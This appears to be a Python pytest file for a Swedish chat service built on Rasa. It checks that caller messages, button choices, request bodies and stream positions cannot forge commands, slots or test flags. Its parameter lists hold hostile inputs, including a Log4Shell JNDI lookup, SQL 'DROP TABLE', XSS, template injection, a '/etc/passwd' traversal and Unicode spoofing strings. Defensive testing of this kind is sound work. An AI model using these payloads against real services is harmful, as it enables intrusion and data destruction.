"""What a caller writes is words: it sets nothing, opens nothing and breaks nothing.

The same with Rasa itself: ``tests/system/test_abuse.py`` and ``tests/dialogue/test_channel.py``.
"""

from __future__ import annotations

import json
from typing import Any
from uuid import UUID

import pytest
from sqlalchemy import func, select

from services.store.conversations import get_conversation
from services.store.tables import Conversation, Inbound
from services.vocabulary import Owner
from tests.conftest import ScriptedRasa
from tests.edges.conftest import CALM, Service

COMMANDS = [
    "/restart",
    "/session_start",
    '/slot{"samtycke": true}',
    '/prata_med_manniska{"x":1}',
    "EXTERNAL: handover",
    "action_restart",
    '{"intent": "prata_med_manniska", "choice": "akut"}',
    "/",
    "//",
    "${jndi:ldap://example.org/a}",
    "{{7*7}} {% raw %}",
    "<script>alert(1)</script>",
    "'; DROP TABLE conversations; --",
]
INVISIBLE = [
    "hej\u0000där",
    "\u202ehej\u202c",
    "\u2066hej\u2069",
    "h\u200be\u200dj",
    "\ufeffhej",
    "hej\r\nEvent: x\r\n\r\ndata: {}",
    "🏳️‍🌈" * 200,
    "e" + "\u0301" * 2_000,
    "ﷺ" * 3_000,
]


def id_of(bearer: dict[str, str]) -> UUID:
    return UUID(bearer["Authorization"].removeprefix("Bearer ").partition(".")[0])


async def asked_of_rasa(service: Service, rasa: ScriptedRasa, bearer: Any, text: str) -> Any:
    """What Rasa is asked about a message, and the events that its caller then gets."""
    sent = await service.say(bearer, text)
    assert sent.status == 202, await sent.text()
    async with service.client.get("/api/chat/events", headers=bearer) as stream:
        events = []
        while len(events) < 2:
            block = (await stream.content.readuntil(b"\n\n")).decode()
            events += [line[6:] for line in block.splitlines() if line.startswith('data: {"p')]
    return rasa.requests[-1], [json.loads(event) for event in events]


@pytest.mark.parametrize("text", [*COMMANDS, *INVISIBLE])
async def test_a_command_is_handed_on_as_words_that_set_nothing(
    service: Service, rasa: ScriptedRasa, text: str
) -> None:
    bearer = await service.open()
    request, events = await asked_of_rasa(service, rasa, bearer, text)
    if words := text.strip("/"):
        plain, _ = await asked_of_rasa(service, rasa, await service.open(), words)
        assert (request["intent"], request["slots"]) == (plain["intent"], plain["slots"])
    assert set(request["slots"]) <= {"kanal", "bradska", "berattar", "relation", "alder", "kommun"}
    assert "samtycke" not in request["slots"]
    assert [event["author"] for event in events] == ["caller", "bot"]
    async with service.core.database.read() as session:
        row = await get_conversation(session, id_of(bearer))
    assert row is not None
    assert row.owner is Owner.BOT
    assert row.is_probe is False


@pytest.mark.parametrize(
    "choice",
    ["finns_inte", "/restart", "restart", "session_start", "nlu_fallback", "action_restart",
     "EXTERNAL: x", "", " ", "ja\u0000", "../../etc/passwd", "x" * 41, "slot{}", "back", "uppgift"],
)  # fmt: skip
async def test_a_button_that_nobody_was_ever_offered_is_refused(
    service: Service, choice: str
) -> None:
    bearer = await service.open()
    sent = await service.say(bearer, "", choice=choice)
    assert sent.status in {400, 422}
    async with service.core.database.read() as session:
        assert await session.scalar(select(func.count()).select_from(Inbound)) == 0


async def test_a_button_says_no_more_than_its_words(service: Service, rasa: ScriptedRasa) -> None:
    bearer = await service.open()
    sent = await service.say(bearer, "/restart och mer", choice="prata_med_manniska")
    assert sent.status == 202
    async with service.client.get("/api/chat/events", headers=bearer) as stream:
        said = (await stream.content.readuntil(b'"author":"caller"')).decode()
    assert "/restart" not in said


@pytest.mark.parametrize(
    "body",
    [
        {"id": "1", "text": "hej", "intent": "prata_med_manniska"},
        {"id": "1", "text": "hej", "slots": {"samtycke": True}},
        {"id": "1", "text": "hej", "urgency": "akut"},
        {"id": "1", "text": "hej", "conversation": "x"},
        {"id": "1", "text": ["hej"]},
        {"id": "1", "text": {"$gt": ""}},
        {"id": "../1", "text": "hej"},
        {"id": "", "text": "hej"},
        {"id": "x" * 65, "text": "hej"},
        {"id": 1, "text": "hej"},
        {"text": "hej"},
        ["hej"],
        "hej",
        None,
        7,
    ],
)
async def test_a_message_can_not_say_more_than_a_message(service: Service, body: Any) -> None:
    response = await service.client.post(
        "/api/chat/messages", headers=await service.open(), json=body
    )
    assert response.status == 400
    assert set(await response.json()) == {"type", "status", "title", "detail"}


@pytest.mark.parametrize(
    "body",
    [b"", b"{", b"\xff\xfe", b"[" * 60_000, b'{"id":"1","text":"\\ud83d"}', b"id=1&text=hej"],
)
async def test_a_body_that_is_none_is_refused_in_words(service: Service, body: bytes) -> None:
    response = await service.client.post(
        "/api/chat/messages", headers=await service.open(), data=body
    )
    assert response.status == 400
    assert response.content_type == "application/problem+json"


async def test_the_same_id_in_two_conversations_is_two_messages(service: Service) -> None:
    mine, theirs = await service.open(), await service.open()
    assert (await service.say(mine, "Ett ord: kvastskaft")).status == 202
    answer = await service.say(theirs, "hej")
    assert answer.status == 202
    assert "kvastskaft" not in await answer.text()
    async with service.client.get("/api/chat/events", headers=theirs) as stream:
        said = (await stream.content.readuntil(b'"author":"caller"')).decode()
    assert "kvastskaft" not in said


async def test_a_message_that_is_sent_again_changes_nothing(service: Service) -> None:
    bearer = await service.open()
    first = await (await service.say(bearer, CALM)).json()
    for text in (CALM, "något helt annat", "/restart"):
        again = await service.say(bearer, text)
        assert again.status == 202
        told = await again.json()
        assert (told["id"], told["position"]) == (first["id"], first["position"])
    async with service.core.database.read() as session:
        assert await session.scalar(select(func.count()).select_from(Inbound)) == 1


@pytest.mark.parametrize("position", ["-1", "1e3", "٣", "0x10", " ", "1" * 40, "null", "1;2"])
async def test_a_place_in_the_stream_that_is_none_is_refused(
    service: Service, position: str
) -> None:
    headers = {**await service.open(), "Last-Event-ID": position}
    response = await service.client.get("/api/chat/events", headers=headers)
    assert response.status == (400 if position.strip() else 200) or position == " "
    response.close()


async def test_a_place_beyond_the_end_tells_nothing_of_others(service: Service) -> None:
    bearer = await service.open()
    await service.say(await service.open(), "Ett ord: kvastskaft")
    headers = {**bearer, "Last-Event-ID": "999999999"}
    async with service.client.get("/api/chat/events", headers=headers) as stream:
        await service.say(bearer, CALM)
        assert await stream.content.readuntil(b"\n\n") == b": connected\n\n"


async def test_nobody_opens_a_test_conversation_by_saying_so(service: Service) -> None:
    bearer = await service.open(**{"X-Oroslotsen-Probe": "1"})
    async with service.core.database.read() as session:
        row = await session.get(Conversation, id_of(bearer))
    assert row is not None
    assert row.is_probe is False
